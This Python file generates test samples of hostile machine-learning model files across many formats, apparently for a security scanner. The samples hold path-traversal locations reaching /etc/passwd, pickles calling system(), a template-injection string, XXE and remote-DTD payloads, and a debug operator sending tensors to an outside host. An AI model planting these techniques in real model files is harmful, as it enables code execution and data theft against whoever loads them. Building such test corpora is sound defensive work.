"""Computation graphs once more: unusual places in ONNX, TensorFlow, TFLite, Core ML, Paddle, MXNet and OpenVINO."""
import json
import struct

from assembly import Call, Name, dump
from graphs import CALM, attribute, external, graph, node, onnx_model, op, saved_model, tflite
from samples import field, gzipped, tarred, torch_zip, varint, zipped

EVIL = dump(Call(Name("posix", "system"), "echo assay"))
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 64, 64, 0, 0, 64, 56, 1, 64, 0, 0) + bytes(120)


def long_varint(value, size=10):
    """A varint of more bytes than it needs."""
    out = b""
    for _ in range(size - 1):
        out += bytes([value & 0x7F | 0x80])
        value >>= 7
    return out + bytes([value & 0x7F])


def long_field(number, value):
    raw = b"".join(value) if isinstance(value, (list, tuple)) else value
    return long_varint(number << 3 | 2, 5) + long_varint(len(raw), 10) + raw


def group(number, content):
    return varint(number << 3 | 3) + content + varint(number << 3 | 4)


def onnx(samples):
    def add(name, data, technique, severity):
        samples.attack("onnx2/" + name, data, technique, severity)

    relu = op("Relu")
    paths = {"../secret.bin": "high", "./../secret.bin": "high", "a/..": "high", "..": "high", "/": "high", "//host/share": "high", "\\\\host\\share\\w": "high", "c:w.bin": "high", "C:/w.bin": "high",
             "FILE:///etc/passwd": "high", "https://198.51.100.7/w": "medium", "ftp://198.51.100.7/w": "medium", "s3://bucket/w": "medium", "gs://bucket/w": "medium", "hdfs://host/w": "medium", "..%2f..%2fx": "medium", "%252e%252e%252fx": "medium",
             "$HOME/w": "medium", "%APPDATA%\\w": "medium", "w.bin\n": "medium", ".. /x": "high", "..\\x": "high", "a\\..\\..\\x": "high", "/dev/zero": "high", "/proc/self/mem": "high", "/dev/stdin": "high", "\\\\?\\C:\\x": "high", "\\\\.\\pipe\\x": "high"}
    for number, (place, severity) in enumerate(paths.items()):
        add(f"external_{number:02}.onnx", onnx_model([relu], [external(place)]), f"external data at {place!r}", severity)
    tensor = external("../../../etc/passwd")
    add("external_without_flag.onnx", onnx_model([relu], [[field(1, 4), field(2, 1), field(8, "w"), field(13, [field(1, "location"), field(2, "/etc/passwd")])]]), "external entries without the flag for it", "high")
    add("external_last_wins.onnx", onnx_model([relu], [[*external("w.bin"), field(13, [field(1, "location"), field(2, "/etc/passwd")])]]), "location given twice", "high")
    add("external_merged.onnx", onnx_model([relu], [[field(1, 4), field(2, 1), field(8, "w"), field(13, [field(1, "location"), field(2, "w.bin"), field(2, "../../x")]), field(14, 1)]]), "value given twice in an entry", "high")
    add("external_attribute_list.onnx", onnx_model([op("Foo", "", [field(1, "values"), field(20, 9), field(10, tensor), field(10, tensor)])]), "external data in a list of tensors", "high")
    add("external_graph_list.onnx", onnx_model([op("If", "", [field(1, "branches"), field(20, 10), field(11, [field(5, tensor)])])]), "external data in a list of graphs", "high")
    add("external_training.onnx", onnx_model([relu]) + field(20, [field(1, [field(5, tensor)])]), "external data in the graph that initialises training", "high")
    add("external_training_algorithm.onnx", onnx_model([relu]) + field(20, [field(2, [field(1, op("If", "", [field(1, "then_branch"), field(20, 5), field(6, [field(5, tensor)])]))])]), "external data in the training algorithm", "high")
    add("external_sparse_attribute.onnx", onnx_model([op("Constant", "", [field(1, "sparse_value"), field(20, 11), field(22, [field(1, tensor), field(3, 4)])])]), "external data in a sparse attribute", "high")
    add("external_default_attribute.onnx", onnx_model([op("F", "local")], functions=[[field(1, "F"), field(11, [field(1, "a"), field(5, tensor), field(20, 4)]), field(7, relu), field(10, "local")]], opsets=(("", 17), ("local", 1))), "external data in a function's default attribute", "high")
    add("offset_negative.onnx", onnx_model([relu], [external("w.bin", ("offset", "-8"))]), "negative offset", "medium")
    add("length_overflow.onnx", onnx_model([relu], [external("w.bin", ("length", "18446744073709551615"))]), "length beyond 63 bits", "medium")
    add("memory_address.onnx", onnx_model([relu], [external("*/_ORT_MEM_ADDR_/*", ("offset", "4096"))]), "data at an address of the process", "high")
    add("setattr_key.onnx", onnx_model([relu], [external("w.bin", ("__class__", "x"))]), "entry that becomes an attribute of the reader", "medium")
    add("long_varints.onnx", field(1, 8) + long_field(7, [long_field(1, op("Run", "assay.evil")), field(2, "g")]) + field(8, [field(2, 17)]), "varints of ten bytes", "medium")
    add("groups.onnx", field(1, 8) + group(90, b"\x08\x01") + field(7, [group(91, field(1, "x")), field(1, op("Run", "assay.evil")), field(2, "g")]) + field(8, [field(2, 17)]), "groups that ONNX does not know", "medium")
    add("merged_graph.onnx", field(1, 8) + field(7, [field(1, relu), field(2, "g")]) + field(8, [field(2, 17)]) + field(7, [field(1, op("Run", "assay.evil"))]), "graph in two parts", "medium")
    add("merged_type.onnx", onnx_model([[*op("Relu"), field(4, "PyOp")]]), "operator type given twice", "high")
    add("merged_domain.onnx", onnx_model([[*op("Run"), field(7, "assay.evil")]]), "domain after the type", "medium")
    add("reversed.onnx", field(8, [field(2, 17)]) + field(7, [field(2, "g"), field(1, op("Run", "assay.evil"))]) + field(2, "assay") + field(1, 8), "fields in reverse order", "medium")
    add("function_shadow.onnx", onnx_model([relu], functions=[[field(1, "Relu"), field(7, op("Run", "assay.evil")), field(10, "")]]), "function that stands in for Relu", "medium")
    add("function_custom_inside.onnx", onnx_model([op("F", "local")], functions=[[field(1, "F"), field(7, op("Run", "assay.evil")), field(10, "local")]], opsets=(("", 17), ("local", 1))), "unknown operator in a function", "medium")
    add("function_loop.onnx", onnx_model([op("F", "local")], functions=[[field(1, "F"), field(7, op("G", "local")), field(10, "local")], [field(1, "G"), field(7, op("F", "local")), field(10, "local")]], opsets=(("", 17), ("local", 1))), "functions that call each other", "medium")
    bodies = [[field(1, f"F{i}"), *[field(7, op(f"F{i + 1}", "local")) for _ in range(10)], field(10, "local")] for i in range(12)] + [[field(1, "F12"), field(7, relu), field(10, "local")]]
    add("function_laughs.onnx", onnx_model([op("F0", "local")], functions=bodies, opsets=(("", 17), ("local", 1))), "functions that unfold to 10^12 nodes", "medium")
    for number, (kind, domain) in enumerate([("PyOp", "ai.onnx.contrib"), ("PythonOp", "com.microsoft"), ("TritonOp", "com.microsoft"), ("CustomGemm", "my.ops"), ("SystemCall", ""), ("ATen", "org.pytorch.aten"), ("Relu", "evil"), ("Conv", "ai.onnx.evil")]):
        if kind == "ATen":
            continue
        add(f"operator_{number}.onnx", onnx_model([op(kind, domain)], opsets=(("", 17), (domain, 1))), f"operator {kind} of {domain!r}", "high" if kind in ("PyOp", "PythonOp") else "medium")
    add("aten_custom.onnx", onnx_model([op("custom_run", "org.pytorch._caffe2")]), "operator of an old exporter's domain", "medium")
    add("epcontext_absolute.onnx", onnx_model([op("EPContext", "com.microsoft", [field(1, "ep_cache_context"), field(20, 3), field(4, b"/tmp/evil.bin")], [field(1, "embed_mode"), field(20, 2), field(3, 0)])]), "execution context at an absolute path", "high")
    add("epcontext_elf.onnx", onnx_model([op("EPContext", "com.microsoft", [field(1, "ep_cache_context"), field(20, 3), field(4, ELF)], [field(1, "embed_mode"), field(20, 2), field(3, 1)])]), "program in an execution context", "high")
    add("attribute_pickle.onnx", onnx_model([op("Relu", "", [field(1, "blob"), field(20, 3), field(4, EVIL)])]), "pickle in an attribute", "medium")
    add("strings_pickle.onnx", onnx_model([relu], [[field(1, 1), field(2, 8), field(8, "s"), field(6, EVIL)]]), "pickle in a text tensor", "medium")
    add("metadata_pickle.onnx", onnx_model([relu], metadata=[("state", "gASVKwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAplY2hvIGFzc2F5lIWUUpQu")]), "base64 pickle in metadata", "medium")
    add("metadata_template.onnx", onnx_model([relu], metadata=[("chat_template", "{{ lipsum.__globals__.os.popen('id').read() }}")]), "template in metadata", "low")
    add("metadata_graph_level.onnx", onnx_model([relu], more=[field(16, [field(1, "x"), field(2, "__import__('os').system('id')")])]), "code in metadata of the graph", "low")
    add("metadata_node_level.onnx", onnx_model([[*relu, field(9, [field(1, "x"), field(2, "__import__('os').system('id')")])]]), "code in metadata of a node", "low")
    add("gzipped.onnx.gz", gzipped(onnx_model([relu], [tensor])), "external data in a gzipped model", "high")
    add("in_tar.tar", tarred([("m/model.onnx", onnx_model([relu], [tensor]))]), "external data in a model in a tar", "high")
    add("renamed_tflite.tflite", onnx_model([relu], [tensor]), "ONNX named .tflite", "high")
    add("no_extension", onnx_model([op("PyOp", "ai.onnx.contrib")]), "ONNX without an extension", "high")
    deep = [field(5, tensor), field(2, "g")]
    for _ in range(60):
        deep = [field(1, op("If", "", [field(1, "then_branch"), field(20, 5), field(6, deep)])), field(2, "g")]
    add("sixty_deep.onnx", field(1, 8) + field(7, deep) + field(8, [field(2, 17)]), "external data sixty graphs deep", "high")
    samples.write("malicious/onnx2/folder/weights.bin", bytes(16))
    add("folder/model.onnx", onnx_model([relu], [external("weights.bin"), external("sub/../../weights.bin")]), "one path of two leaves", "high")


def tensorflow(samples):
    def add(name, data, technique, severity):
        samples.attack("tf2/" + name, data, technique, severity)

    for kind, severity in {"WholeFileReaderV2": "medium", "TextLineReaderV2": "medium", "FixedLengthRecordReaderV2": "medium", "TFRecordReaderV2": "medium", "LMDBReader": "medium", "ExperimentalCSVDataset": "medium", "ExperimentalSqlDataset": "high",
                           "MatchingFilesDataset": "high", "ExperimentalMatchingFilesDataset": "high", "LoadAndRemapMatrix": "medium", "GenerateVocabRemapping": "medium", "SaveDataset": "medium", "SaveDatasetV2": "medium", "SnapshotDatasetV2": "medium",
                           "DatasetToTFRecord": "medium", "ExperimentalDatasetToTFRecord": "medium", "CacheDatasetV2": "medium", "WriteRawProtoSummary": "medium", "WriteSummary": "medium", "WriteGraphSummary": "medium", "CreateSummaryDbWriter": "medium",
                           "RpcClient": "medium", "RpcServer": "high", "RpcServerStart": "high", "BigQueryReader": "medium", "GcsConfigureCredentials": "medium", "RegisterDatasetV2": "medium", "DataServiceDatasetV4": "medium", "Abort": "medium",
                           "RecordInput": "medium", "Skipgram": "medium", "ListSnapshotChunksDataset": "medium", "SnapshotChunkDataset": "medium", "AssayCustomOp": "medium", "Addons>Run": "low", "MlirPassthroughOp": "medium"}.items():
        add(f"{kind.replace('>', '_')}/saved_model.pb", saved_model(graph(CALM, node("y", kind))), f"operator {kind}", severity)
    constant = [field(1, 7), field(2, []), field(8, b"/etc/passwd")]
    add("constant_path/saved_model.pb", saved_model(graph(node("path", "Const", attribute("value", field(8, constant))), node("r", "ReadFile", field(3, "path")))), "ReadFile of a constant path", "high")
    add("long_varints/saved_model.pb", field(1, 1) + long_field(2, [long_field(2, [long_field(1, node("z", "WriteFile"))])]), "varints of ten bytes", "critical")
    add("groups/saved_model.pb", field(1, 1) + field(2, [group(50, field(1, "x")), field(2, [group(51, b""), field(1, node("z", "PyFunc"))])]), "groups that TensorFlow does not know", "critical")
    add("op_twice/saved_model.pb", saved_model(graph([field(1, "z"), field(2, "Add"), field(2, "PyFunc")])), "operator given twice", "critical")
    add("control_input/saved_model.pb", saved_model(graph(CALM, node("w", "WriteFile"), node("y", "Identity", field(3, "x"), field(3, "^w")))), "WriteFile behind a control edge", "critical")
    add("function_attribute/saved_model.pb", saved_model(graph(CALM, node("m", "MapDataset", attribute("f", field(10, [field(1, "inner")]))), library=[("inner", [node("z", "EagerPyFunc")])])), "PyFunc in a function that a dataset maps", "critical")
    add("function_deep/saved_model.pb", saved_model(graph(CALM, node("y", "PartitionedCall"), library=[(f"f{i}", [node("n", "PartitionedCall")]) for i in range(40)] + [("last", [node("z", "PyFunc")])])), "PyFunc in the 41st function", "critical")
    add("unused_function/saved_model.pb", saved_model(graph(CALM, library=[("never", [node("z", "WriteFile")])])), "WriteFile in a function that nothing calls", "high")
    add("signature_init/saved_model.pb", field(1, 1) + field(2, [field(2, graph(CALM, node("init", "WriteFile"))), field(5, [field(1, "__saved_model_init_op"), field(2, [field(2, [field(1, "init")])])])]), "initialisation op that writes", "critical")
    add("asset_traversal/saved_model.pb", field(1, 1) + field(2, [field(2, graph(CALM)), field(6, [field(1, [field(1, "x:0")]), field(2, "../../../etc/passwd")])]), "asset outside of the folder", "medium")
    add("asset_absolute/saved_model.pb", field(1, 1) + field(2, [field(2, graph(CALM)), field(6, [field(1, [field(1, "x:0")]), field(2, "/etc/passwd")])]), "asset at an absolute path", "medium")
    add("saver_path.meta", field(2, graph(CALM)) + field(3, [field(1, "save/Const:0"), field(4, 5)]) + field(2, graph(node("z", "WriteFile"))), "meta graph in two parts", "critical")
    add("collection_pickle.meta", field(1, [field(4, "train")]) + field(2, graph(CALM)) + field(4, [field(1, "state"), field(2, [field(2, [field(1, EVIL)])])]), "pickle in a collection of a meta graph", "medium")
    add("no_version/saved_model.pb", field(2, [field(2, graph(node("z", "PyFunc")))]), "no schema version", "critical")
    add("graph_in_assets/assets/frozen.pb", graph(CALM, node("z", "WriteFile")), "frozen graph among the assets", "critical")
    add("named_txt/graph.txt", graph(CALM, node("z", "PyFunc")), "frozen graph named .txt", "critical")
    add("graph_text_oneline/graph.pbtxt", 'node{name:"z" op:"WriteFile"}', "text graph in one line", "critical")
    add("graph_text_pieces/graph.pbtxt", 'node {\n  name: "z"\n  op: "Py" "Func"\n}\n', "operator in pieces", "critical")
    add("graph_text_escape/graph.pbtxt", 'node {\n  name: "z"\n  op: "Py\\106unc"\n}\n', "operator with an octal escape", "critical")
    add("graph_text_angle/graph.pbtxt", 'node <\n  name: "z"\n  op: "PyFunc"\n>\n', "text graph with angle brackets", "critical")
    add("graph_text_saved/saved_model.pbtxt", 'saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n    node {\n      name: "z"\n      op: \'WriteFile\'\n    }\n  }\n}\n', "SavedModel as text", "critical")
    add("caffe_python/deploy.prototxt", 'layer {\n  name: "p"\n  type: "Python"\n  python_param {\n    module: "os"\n    layer: "system"\n  }\n}\n', "Caffe layer in Python", "high")
    add("keras_metadata/keras_metadata.pb", field(1, [field(2, 1), field(3, "root.layer-0"), field(4, "_tf_keras_layer"), field(5, json.dumps({"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__tuple__", "items": ["4wEAAAA=", None, None]}, "function_type": "lambda"}}))]), "Lambda in Keras metadata", "critical")
    add("debug_dump/saved_model.pb", saved_model(graph(CALM, node("y", "DebugNanCount", attribute("debug_urls", field(1, field(2, "grpc://198.51.100.7:6064")))))), "debug operator that sends tensors away", "high")
    add("printv2_file/saved_model.pb", saved_model(graph(CALM, node("y", "PrintV2", attribute("output_stream", field(2, "file:///root/.bashrc"))))), "PrintV2 into a file", "high")
    add("load_library/saved_model.pb", saved_model(graph(CALM, node("y", "LoadPluggableDeviceLibrary"))), "operator that loads a library", "medium")
    add("tpu/saved_model.pb", saved_model(graph(CALM, node("y", "TfrtCallExternal"))), "operator of no release", "medium")
    add("zip_of_saved_model.zip", zipped([("export/1/saved_model.pb", saved_model(graph(node("z", "EagerPyFunc")))), ("export/1/variables/variables.index", b""), ("export/1/fingerprint.pb", b"\x08\x01")]), "SavedModel in a zip", "critical")
    add("targz.tar.gz", gzipped(tarred([("m/1/saved_model.pb", saved_model(graph(node("z", "WriteFile"))))])), "SavedModel in tar.gz", "critical")


def others(samples):
    add = samples.attack
    for name in ["FlexWriteFile", "FlexReadFile", "FlexPyFunc", "FlexMatchingFiles", "FlexSaveV2", "FlexTFRecordDataset", "FlexRpcClient", "FlexAssayRun"]:
        severity = {"FlexSaveV2": "none", "FlexTFRecordDataset": "medium", "FlexRpcClient": "medium", "FlexAssayRun": "medium"}.get(name, "high")
        if severity != "none":
            add(f"tflite2/{name}.tflite", tflite([(0, None), (32, name)]), f"TFLite operator {name}", severity)
    for name in ["system", "AssayLoader", "PythonCall2", "Delegate\0x"]:
        add(f"tflite2/custom_{name[:6]}.tflite", tflite([(32, name)]), f"TFLite custom operator {name!r}", "medium")
    add("tflite2/appended_zip.tflite", tflite([(0, None)]) + zipped([("labels.txt", b"cat\n"), ("../../x.py", b"x")]), "metadata zip whose member leaves", "high")
    add("tflite2/appended_elf.tflite", tflite([(0, None)]) + ELF, "program behind a TFLite model", "medium")
    layer = [field(1, "c"), field(500, [field(10, "AssayLayer")])]
    add("coreml2/pipeline_custom.mlmodel", field(1, 4) + field(2, [field(100, [field(1, "m")])]) + field(202, [field(1, [field(1, 4), field(500, [field(1, layer)])])]), "custom layer in a pipeline", "medium")
    add("coreml2/classifier_custom.mlmodel", field(1, 4) + field(2, [field(100, [field(1, "m")])]) + field(403, [field(1, layer)]), "custom layer in a classifier", "medium")
    add("coreml2/custom_model.mlmodel", field(1, 4) + field(2, [field(100, [field(1, "m")])]) + field(555, [field(10, "AssayModel")]), "custom model class", "medium")
    add("coreml2/linked.mlmodel", field(1, 4) + field(2, [field(100, [field(1, "m")])]) + field(556, [field(1, [field(1, field(1, "../../other")), field(2, field(1, "/etc"))])]), "model that links to another", "medium")
    for path in ["../../x", "/etc/passwd", "file:///etc/passwd", "..\\x"]:
        add(f"coreml2/{abs(hash(path)) % 7}{len(path)}/Manifest.json", json.dumps({"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"path": path, "name": "m"}}, "rootModelIdentifier": "A"}), f"package item {path!r}", "medium" if path.startswith("file") else "high")
    for kind in ["py_func", "python_op", "listen_and_serv", "send", "load", "load_combine", "save", "save_combine", "recv_save", "gen_nccl_id"]:
        severity = {"load": "medium", "load_combine": "medium", "py_func": "high", "python_op": "high"}.get(kind, "medium")
        add(f"paddle2/{kind}.pdmodel", field(1, [field(1, 0), field(2, 4294967295), field(4, [field(3, kind)])]), f"Paddle operator {kind}", severity)
    add("paddle2/second_block.pdmodel", field(1, [field(1, 0), field(2, 4294967295), field(4, [field(3, "relu")])]) + field(1, [field(1, 1), field(2, 0), field(4, [field(3, "py_func")])]), "py_func in the second block", "high")
    add("paddle2/path_attribute.pdmodel", field(1, [field(1, 0), field(2, 4294967295), field(4, [field(3, "load"), field(4, [field(1, "file_path"), field(2, 2), field(5, "../../../etc/passwd")])])]), "path attribute that leaves", "high")
    add("paddle2/pir.json", json.dumps({"base_code": {"magic": "pir", "version": 1}, "program": {"regions": [{"blocks": [{"ops": [{"#": "pd_op.py_func", "A": [{"N": "forward_callable_id", "AT": {"D": 0}}], "I": [], "O": []}]}]}]}}), "py_func in a PIR program", "high")
    add("paddle2/params.pdiparams", torch_zip(EVIL), "torch zip named .pdiparams", "critical")
    nodes = [{"op": "null", "name": "data", "inputs": []}, {"op": "Custom", "name": "c", "attrs": {"op_type": "run"}, "inputs": [[0, 0, 0]]}]
    add("mxnet2/old-symbol.json", json.dumps({"nodes": [nodes[0], {**nodes[1], "attr": nodes[1]["attrs"]}], "arg_nodes": [0], "heads": [[1, 0, 0]]}), "Custom operator under the old key", "medium")
    add("mxnet2/native-symbol.json", json.dumps({"nodes": [nodes[0], {"op": "_Native", "name": "n", "attrs": {"info": "0x7fff0000"}, "inputs": [[0, 0]]}], "arg_nodes": [0], "heads": [[1, 0]]}), "operator that calls an address", "high")
    add("mxnet2/subgraph-symbol.json", json.dumps({"nodes": [nodes[0], {"op": "_foreach", "name": "f", "inputs": [[0, 0, 0]], "subgraphs": [{"nodes": nodes, "arg_nodes": [0], "heads": [[1, 0, 0]]}]}], "arg_nodes": [0], "heads": [[1, 0, 0]]}), "Custom operator in a subgraph", "medium")
    net = '<?xml version="1.0"?><net name="m" version="11"><layers>{}</layers><edges/>{}</net>'
    add("openvino2/extension_version.xml", net.format('<layer id="0" name="a" type="Evil" version="custom"/>', ""), "layer of an unknown operator set", "medium")
    add("openvino2/library_path.xml", net.format('<layer id="0" name="a" type="Parameter" version="opset1"/>', '<rt_info><extension path="/tmp/libevil.so"/></rt_info>'), "library in the run-time information", "high")
    add("openvino2/custom_layer.xml", '<CustomLayer name="Run" type="SimpleGPU" version="1"><Kernel entry="run"><Source filename="../../evil.cl"/></Kernel></CustomLayer>', "custom GPU kernel that leaves the folder", "medium")
    add("openvino2/const_negative.xml", net.format('<layer id="0" name="c" type="Const" version="opset1"><data element_type="f32" shape="4" offset="-16" size="16"/></layer>', ""), "negative constant offset", "medium")
    add("openvino2/const_huge.xml", net.format('<layer id="0" name="c" type="Const" version="opset1"><data element_type="f32" shape="4" offset="18446744073709551600" size="64"/></layer>', ""), "constant offset that overflows", "medium")
    add("openvino2/xinclude.xml", '<net xmlns:xi="http://www.w3.org/2001/XInclude" name="m" version="11"><layers><xi:include href="file:///etc/passwd" parse="text"/></layers></net>', "XInclude", "medium")
    add("openvino2/dtd.xml", '<!DOCTYPE net SYSTEM "http://198.51.100.7/e.dtd"><net name="m" version="11"><layers/></net>', "document type from the network", "high")
    add("openvino2/utf16.xml", ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net name="&x;" version="11"><layers/></net>').encode("utf-16"), "external entity in UTF-16", "high")
    add("tensorrt2/plugin.plan", b"ptrt" + bytes(60) + b"/tmp/plugins/libevil.so\0" + bytes(60), "library path in an engine", "medium")
    add("tensorrt2/elf.trt", b"ftrt" + bytes(5000) + ELF + bytes(3000), "program in an engine", "medium")
    add("tensorrt2/pickle.engine", b"ptrt" + bytes(100) + EVIL, "pickle in an engine", "medium")
    add("rknn/elf.rknn", b"RKNN" + bytes(3000) + ELF, "program in an RKNN model", "medium")
    add("ort/custom.ort", struct.pack("<I", 24) + b"ORTM" + bytes(64) + b"/opt/evil/libcustom_ops.so\0" + bytes(40), "library path in an ORT model", "medium")


def build(samples):
    onnx(samples)
    tensorflow(samples)
    others(samples)
